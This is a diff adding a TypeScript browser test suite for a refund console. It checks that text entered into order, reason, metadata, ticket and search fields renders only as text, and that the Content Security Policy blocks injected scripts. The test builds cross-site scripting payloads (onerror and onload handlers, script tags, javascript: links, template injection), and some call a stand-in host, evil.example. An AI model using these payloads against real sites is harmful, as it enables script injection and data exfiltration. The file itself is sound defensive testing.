@@ -1,0 +1,128 @@
+/** Whatever somebody writes into a field is text to whoever reads it: nothing of it runs, asks elsewhere or changes the page. */
+import { sql } from 'kysely';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { CHROMIUM, HOW_TO_GET_CHROMIUM } from '../support/chromium.js';
+import { confirm, NOT_LINKABLE, startConsole, UNCLEAR, type ConsoleWorld, type Desk } from './world.js';
+
+/** Each is a way in that has worked somewhere. `name` tells which field it came through. */
+const evil = (name: string): string =>
+  `${name}"><img src=x onerror=alert(1)><script>alert(2)</script><svg/onload=fetch('//evil.example/${name}')>{{7*7}}`;
+const LINK = 'javascript:alert(3)';
+
+describe.skipIf(CHROMIUM === undefined)(`hostile text (needs Chromium: ${HOW_TO_GET_CHROMIUM})`, () => {
+  let world: ConsoleWorld;
+  let desk: Desk;
+
+  beforeAll(async () => {
+    world = await startConsole();
+    // The name of a key is text of somebody as well.
+    desk = await world.sitDown(await world.newKey(evil('name'), 'operate', 'approve'));
+  }, 120_000);
+  afterAll(async () => {
+    await desk.close();
+    await world.close();
+  });
+
+  /** It was shown as it was written, and nothing of it became a part of the page. */
+  async function expectOnlyText(...names: readonly string[]): Promise<void> {
+    const { page, incidents } = desk;
+    for (const name of names) await page.getByText(evil(name)).first().waitFor({ state: 'attached' });
+    expect(
+      await page.locator('img, script:not([src^="/console/assets/"]), [onerror], [onload]').count(),
+    ).toBe(0);
+    expect(await page.locator('a[href^="javascript:" i]').count()).toBe(0);
+    expect(incidents).toEqual([]);
+  }
+
+  it('stays text on every page: reason, order, metadata, ticket, person, gateway', async () => {
+    const { page, open } = desk;
+    const shop = await world.newKey(evil('shop'), 'submit');
+    const refund = await world.stuck({
+      code: UNCLEAR,
+      state: 'manual_review',
+      orderId: evil('order').slice(0, 250),
+      reason: evil('reason').slice(0, 200),
+      metadata: { [`<b>${LINK}`.slice(0, 40)]: evil('metadata') },
+      key: shop,
+    });
+    await sql`UPDATE attempts SET result_description = ${evil('gateway')} WHERE refund_id = ${refund.id}`.execute(
+      world.stack.database.db,
+    );
+    await sql`UPDATE cases SET details = ${JSON.stringify({ [evil('detail')]: evil('value'), url: LINK })}
+      WHERE refund_id = ${refund.id}`.execute(world.stack.database.db);
+
+    await open('');
+    await expectOnlyText('order', 'name');
+    await open('refunds');
+    await expectOnlyText('order');
+    await open(`search?q=${encodeURIComponent(evil('order'))}`);
+    await page.waitForURL(`**/refunds/${refund.id}`);
+    await expectOnlyText('order', 'shop', 'gateway', 'value', 'detail');
+
+    await confirm(page, 'Withdraw', { Reason: evil('word'), Ticket: evil('ticket') });
+    await page.getByText('Withdrawn.').waitFor();
+    for (const details of await page.getByRole('region', { name: 'Timeline' }).locator('summary').all())
+      await details.click();
+    await expectOnlyText('word', 'ticket');
+    await open(`payments/${refund.paymentId}`);
+    await expectOnlyText('order', 'word');
+  });
+
+  it('stays text in what a second person is asked to confirm', async () => {
+    const refund = await world.stuck({ code: UNCLEAR, state: 'manual_review' });
+    const { open, page } = desk;
+    await open(`refunds/${refund.id}`);
+    await confirm(page, 'Correct', {
+      'What really happened': 'succeeded',
+      Evidence: evil('evidence'),
+      Reason: evil('proposal'),
+    });
+    await page.getByText('A correction is proposed').waitFor();
+    await expectOnlyText('proposal');
+    await page.getByText('evidence"><img').first().waitFor();
+    await open('');
+    await page.getByText('evidence"><img').first().waitFor();
+    await expectOnlyText();
+  });
+
+  it('stays text in what is searched and filtered for, and in an address that somebody sent', async () => {
+    const { page, open } = desk;
+    await open(`search?q=${encodeURIComponent(evil('search'))}`);
+    await page.getByText('No refund or payment has exactly this id').waitFor();
+    await expectOnlyText('search');
+    await world.stuck({ code: NOT_LINKABLE, state: 'awaiting_approval' });
+    await open(`?q=${encodeURIComponent(evil('filter'))}`);
+    await page.getByText('matches').waitFor();
+    await expectOnlyText('filter');
+    await open(`refunds/${encodeURIComponent('"><script>alert(4)</script>')}`);
+    await page.getByRole('alert').waitFor();
+    await open(`refunds?paymentId=${encodeURIComponent(LINK)}&state=%3Cimg%3E`);
+    await page.getByRole('alert').waitFor();
+    await expectOnlyText();
+  });
+
+  it('could not run if it were markup: what is inline or from elsewhere is refused, and would have been seen above', async () => {
+    const { page, incidents, open } = desk;
+    await open('');
+    const before = incidents.length;
+    await page.evaluate(`{
+      const script = document.createElement('script');
+      script.setAttribute('nonce', 'x');
+      const image = document.createElement('img');
+      image.src = 'https://evil.example/x.png';
+      document.body.append(image);
+      const styled = document.createElement('p');
+      styled.setAttribute('style', 'color: red');
+      document.body.append(styled);
+      try { document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=alert(1)>'); } catch {}
+      try { script.text = 'alert(1)'; document.body.append(script); } catch {}
+      fetch('https://evil.example/').catch(() => undefined);
+    }`);
+    await expect.poll(() => incidents.slice(before).join('\n')).toMatch(/policy: connect-src/u);
+    const seen = incidents.slice(before).join('\n');
+    expect(seen).toMatch(/policy: img-src/u);
+    expect(seen).toMatch(/policy: style-src-attr/u);
+    expect(seen).toMatch(/policy: require-trusted-types-for/u);
+    expect(seen).not.toMatch(/dialog:/u);
+  });
+});
